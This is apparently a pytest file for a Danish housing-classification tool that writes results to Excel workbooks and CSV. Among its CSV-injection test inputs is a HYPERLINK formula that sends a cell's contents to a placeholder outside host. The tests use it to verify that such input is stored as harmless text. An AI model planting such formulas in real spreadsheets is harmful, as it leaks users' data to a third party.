"""Answers out in the tools analysts use: classify to a real workbook or Danish-Excel CSV, Danish
headings in and out, and every report's tables as a workbook beside its HTML."""

import zipfile

import openpyxl
import pytest
from conftest import write

from boligdata.cli import main
from boligdata.publish.tables_out import danish_number, html_tables

# Vollsmose on the list of 1 December 2020 (seed 004, punkt 4), with the Danish headings of the
# templates and the rules (rules.yaml column_da; the catalogue's label for the non-western share).
DANISH = ("Område;Beboere;Andel indvandrere og efterkommere fra ikke-vestlige lande;"
          "Uden for arbejdsmarked og uddannelse;Dømte;Alene grundskole;Indkomst i pct. af regionen\n"
          "Vollsmose;7.233;76,1;49,6;2,74;75,0;53,4\n")
ENGLISH = ("area;residents;non_western_pct;outside_labour_market_pct;convicted_pct;primary_school_only_pct;"
           "income_pct_of_region\nVollsmose;7.233;76,1;49,6;2,74;75,0;53,4\n")


def classify(tmp_path, text, out, *extra):
    source = write(tmp_path / "values.csv", text)
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--out", str(out), *extra]) == 0
    return out


def test_classify_reads_the_danish_headings(tmp_path):
    danish = classify(tmp_path, DANISH, tmp_path / "da.csv").read_text(encoding="utf-8")
    english = classify(tmp_path, ENGLISH, tmp_path / "en.csv").read_text(encoding="utf-8")
    assert danish == english
    # 4 of 4 criteria and 76,1 % > 50 %: a ghettoområde (§ 61 a, stk. 2, as of the 2018 law).
    assert "Ghettoområde" in danish


def test_classify_writes_a_real_workbook_with_typed_columns_and_danish_headings(tmp_path):
    out = classify(tmp_path, ENGLISH, tmp_path / "result.xlsx", "--danish")
    assert zipfile.is_zipfile(out)  # a workbook, not CSV text in a file named .xlsx
    sheet = openpyxl.load_workbook(out).active
    assert sheet.freeze_panes == "A2"
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]]))
    assert row["Område"] == "Vollsmose" and row["Beboere"] == 7233 and row["Listeår"] == 2020
    assert row["Ghettoområde"] == "ja" and row["Hårdt ghettoområde"] == "kan ikke afgøres"  # no history given
    # The distance above the employment threshold: 49,6 - 40 = 9,6 points, a number.
    assert row["Beskæftigelse: afstand (procentpoint)"] == pytest.approx(9.6)


def test_classify_writes_csv_for_danish_excel(tmp_path):
    data = classify(tmp_path, ENGLISH, tmp_path / "result.csv", "--danish").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    # The area, the input values it was classified from ("Inddata: …"), then the results.
    assert header.startswith("Område;Inddata: ") and ";Listeår;" in header and ";9,6;" in row


def test_every_csv_written_for_a_user_opens_in_danish_excel(tmp_path):
    """Without --danish the headings stay the English codes, but the file is still the dialect
    Danish Excel opens: byte-order mark and ';' between fields."""
    data = classify(tmp_path, ENGLISH, tmp_path / "plain.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header, row = data.decode("utf-8-sig").splitlines()[:2]
    assert header.startswith("area;non_western_pct;") and ";list_year;" in header
    assert row.startswith("Vollsmose;76,1;")


def test_an_unknown_output_type_is_refused(tmp_path, capsys):
    source = write(tmp_path / "values.csv", ENGLISH)
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--out",
                 str(tmp_path / "x.json")]) == 2
    assert "expected a .csv or .xlsx file" in capsys.readouterr().err


def test_danish_numbers_become_numbers_with_their_format():
    assert danish_number("2,27 %") == (0.0227, "0.00%")
    assert danish_number("−1,5") == (-1.5, "#,##0.0")
    assert danish_number("diskretioneret") is None and danish_number("2020") == (2020.0, "#,##0")


def test_every_report_has_its_tables_as_a_workbook_with_the_same_disclosure(sample_reports):
    _, paths = sample_reports
    for path in paths:
        html = path.read_text(encoding="utf-8")
        book = openpyxl.load_workbook(path.with_suffix(".xlsx"))
        tables = html_tables(html)
        assert book.sheetnames[0] == "Om rapporten" and len(book.sheetnames) == len(tables) + 1, path.name
        for table, name in zip(tables, book.sheetnames[1:]):
            sheet = book[name]
            rows = list(sheet.iter_rows(values_only=True))
            assert " ".join(table.caption.split()) == rows[0][0]
            shown = [c for r in table.body for c in r if c == "diskretioneret"]
            stored = [c for r in rows for c in r if c == "diskretioneret"]
            assert len(shown) == len(stored), (path.name, name)  # what the page hides, the workbook hides
        if "syntetiske" in html:
            assert any("syntetiske" in str(v) for r in book["Om rapporten"].iter_rows(values_only=True) for v in r)


def test_the_overview_sheet_holds_typed_percentages(sample_reports):
    ws, _ = sample_reports
    book = openpyxl.load_workbook(ws.reports / "2020Q3" / "461" / "kvartalsrapport.xlsx")
    sheet = book[book.sheetnames[1]]
    rows = {r[0].value: r for r in sheet.iter_rows() if r[0].value}
    vollsmose = rows["Vollsmose"]
    # Vollsmose's share outside the labour market on the page: "49,6 %" (seed 004).
    share = next(c for c in vollsmose if c.value == pytest.approx(0.496))
    assert share.number_format == "0.0%"


# Area names a user typed that a spreadsheet would run or follow (the OWASP "CSV Injection" page
# lists = + - @, tab and carriage return as the characters that start a formula).
# (A name's leading tab is stripped by the reader, as all surrounding white space: tab and carriage
# return are checked on danish_csv itself.)
HOSTILE = ['=HYPERLINK("http://x.example/?d="&B2;"klik")', "+SUM(1;2)", "-2+3", "@SUM(A1)",
           "http://x.example/område"]


def hostile_values(tmp_path, names):
    rows = "".join(f'"{n.replace(chr(34), chr(34) * 2)}";1.288;54,2;38,3;2,30;61,4;56,0\n' for n in names)
    return write(tmp_path / "hostile.csv", ENGLISH.splitlines()[0] + "\n" + rows)


def test_what_users_typed_is_never_a_formula_or_a_link_in_the_classify_workbook(tmp_path):
    source = hostile_values(tmp_path, HOSTILE)
    out = tmp_path / "result.xlsx"
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--out", str(out)]) == 0
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("area")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE  # every name there, as typed
    assert all(c.data_type == "s" for c in cells)  # text cells: not one formula ("f")
    assert all(c.hyperlink is None for c in cells)  # and not one link


def test_what_users_typed_is_text_in_every_csv(tmp_path, capsys):
    source = hostile_values(tmp_path, HOSTILE)
    out = tmp_path / "result.csv"
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--danish", "--out",
                 str(out)]) == 0
    import csv
    import io

    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    names = [r[0] for r in rows[1:]]
    # A leading apostrophe before each dangerous first character (OWASP); the link-like name stays.
    assert names == ["'" + n for n in HOSTILE[:4]] + [HOSTILE[4]]
    # classify without --out writes CSV to the terminal, made safe the same way.
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided"]) == 0
    printed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    header = next(i for i, r in enumerate(printed) if r[:1] == ["area"])  # after what the --out run printed
    assert [r[0] for r in printed[header + 1:]] == names
    from boligdata.publish.tables_out import danish_csv

    import pandas as pd

    text = danish_csv(pd.DataFrame({"navn": ["\tTab", "\rCR", "a=b"], "tal": [-1.5, 2.0, 3.0]})).decode("utf-8-sig")
    assert text.splitlines()[1:] == ["'\tTab;-1,5", '"\'\rCR";2,0', "a=b;3,0"] or \
        list(csv.reader(io.StringIO(text), delimiter=";"))[1:] == [["'\tTab", "-1,5"], ["'\rCR", "2,0"], ["a=b", "3,0"]]


def test_a_value_too_long_for_excel_is_refused_not_dropped(tmp_path):
    """Excel holds at most 32.767 characters in a cell ("Excel specifications and limits"); the
    writer would cut the text and go on. A name longer than that is refused, naming the cell."""
    from boligdata.errors import OutputError
    from boligdata.publish.tables_out import frame_workbook

    import pandas as pd

    long = "Vollsmose " * 3300  # 33.000 characters
    with pytest.raises(OutputError, match=r"klassifikation: row 3, column 'area'.*33\.000 characters"):
        frame_workbook(pd.DataFrame({"area": ["A", long]}), "klassifikation")
    # 2.121 characters of a link-like name (over Excel's 2.079 for a link) is written whole, as text.
    name = "http://x.example/" + "a" * 2104
    book = openpyxl.load_workbook(__import__("io").BytesIO(frame_workbook(pd.DataFrame({"area": [name]}), "k")))
    assert book.active["A2"].value == name and book.active["A2"].hyperlink is None


def test_a_page_table_becomes_a_workbook_sheet_that_reads_as_the_page():
    """One table as present.html.table renders it, with a group heading row, a met criterion in
    bold, a year, a date, an amount, a difference in points and a yes/no column; each cell's
    expected kind follows from what the page shows."""
    import datetime as dt
    import io

    import pandas as pd

    from boligdata.present.html import table
    from boligdata.publish.tables_out import report_workbook

    frame = pd.DataFrame({"area": ["2016", "Vollsmose"], "year": ["2022", "2023"], "date": ["30.09.2025", "–"],
                          "amount": [21022000, 5], "change": ["+21,4 procentpoint", "-1,5 procentpoint"],
                          "met": ["ja", "nej"], "share": [61.4, 40.0]})
    html = table(frame, {"area": ("Område", "text"), "year": ("År", "text"), "date": ("Opgjort", "text"),
                         "amount": ("Beløb", "kr"), "change": ("Ændring", "numtext"), "met": ("Opfyldt", "text"),
                         "share": ("Andel", "pct")},
                 caption="Prøve", groups=[("", 1), ("2023", 2), ("Penge", 2), ("", 2)],
                 highlight=lambda row, key: key == "share" and row["share"] > 60)
    sheet = openpyxl.load_workbook(io.BytesIO(report_workbook(str(html), []))).worksheets[1]
    # The group headings stand over their columns: "2023" over År and Opgjort (B:C), "Penge" over D:E.
    assert sorted(str(r) for r in sheet.merged_cells.ranges) == ["B2:C2", "D2:E2", "F2:G2"]
    assert sheet["B2"].value == "2023" and sheet["D2"].value == "Penge"  # a heading stays a heading (text)
    assert [c.value for c in sheet[3]] == ["Område", "År", "Opgjort", "Beløb", "Ændring", "Opfyldt", "Andel"]
    a, b = sheet[4], sheet[5]
    assert a[0].value == 2016 and a[0].number_format == "0"  # a year: no thousands separator
    assert a[1].value == 2022 and a[1].number_format == "0"
    assert a[2].value == dt.datetime(2025, 9, 30) and a[2].number_format == "dd.mm.yyyy"
    assert a[3].value == 21022000 and a[3].number_format == '#,##0 "kr."'
    assert a[4].value == pytest.approx(21.4) and a[4].number_format.startswith('+0.0 "procentpoint"')
    assert b[4].value == pytest.approx(-1.5)
    assert a[5].value is True and b[5].value is False
    assert a[6].value == pytest.approx(0.614) and a[6].font.b and not b[6].font.b  # the met share in bold
    assert b[0].value == "Vollsmose" and b[2].value is None  # "–" is left empty, as before


def test_the_plan_workbook_puts_each_year_over_its_own_results(sample_reports):
    """The activity tables of the 2024 plan report: on the page each year heading spans its
    "Mål" and "Resultat" columns; in the workbook it is merged over the same two columns, so no
    year stands over another year's result (issue 25)."""
    ws, _ = sample_reports
    path = next((ws.reports / "2024Q4").rglob("helhedsplan-*.xlsx"))
    html = html_tables(path.with_suffix(".html").read_text(encoding="utf-8"))
    book = openpyxl.load_workbook(path)
    checked = 0
    for table, name in zip(html, book.sheetnames[1:]):
        if not (len(table.head) == 2 and table.head[1][1:3] == ["Mål", "Resultat"]):
            continue
        sheet = book[name]
        years = [t for t, c in zip(table.head[0], table.head_cells[0]) if c["span"] == 2]
        merged = sorted((r.min_col, r.max_col) for r in sheet.merged_cells.ranges if r.min_row == 2)
        assert merged == [(2 + 2 * i, 3 + 2 * i) for i in range(len(years))], name
        assert [sheet.cell(2, lo).value for lo, _ in merged] == years
        assert all(sheet.cell(3, lo).value == "Mål" and sheet.cell(3, hi).value == "Resultat" for lo, hi in merged)
        checked += 1
    assert checked, "no activity table in the plan report"


def test_the_classify_workbook_holds_the_input_values_beside_the_results(tmp_path):
    out = classify(tmp_path, ENGLISH, tmp_path / "result.xlsx", "--danish")
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2]))
    # The values typed in ENGLISH (Vollsmose, seed 004), as numbers, right after the area.
    assert header[1].startswith("Inddata: ")
    typed = {"Inddata: Andel indvandrere og efterkommere fra ikke-vestlige lande": 76.1,
             "Inddata: Andel 18-64-årige uden for arbejdsmarked eller uddannelse": 49.6,
             "Inddata: Gennemsnitlig bruttoindkomst i procent af regionen": 53.4}
    for name, value in typed.items():
        assert row[name].value == pytest.approx(value) and row[name].data_type == "n", name
    assert row["Beboere"].value == 7233  # already a result column: not twice
    assert header.count("Beboere") == 1


@pytest.mark.skipif(__import__("shutil").which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook_as_text_not_formulas(tmp_path):
    """A real spreadsheet program opens the classify workbook: its CSV export shows each hostile
    name as typed (a formula would show its result instead)."""
    import subprocess

    source = hostile_values(tmp_path, HOSTILE[:2])
    out = tmp_path / "result.xlsx"
    assert main(["classify", str(source), "--list-year", "2020", "--allow-undecided", "--out", str(out)]) == 0
    subprocess.run(["soffice", "--headless", "--convert-to", "csv", "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=120)
    text = (tmp_path / "result.csv").read_text(encoding="utf-8", errors="replace")
    assert "HYPERLINK" in text and "SUM(1;2)" in text
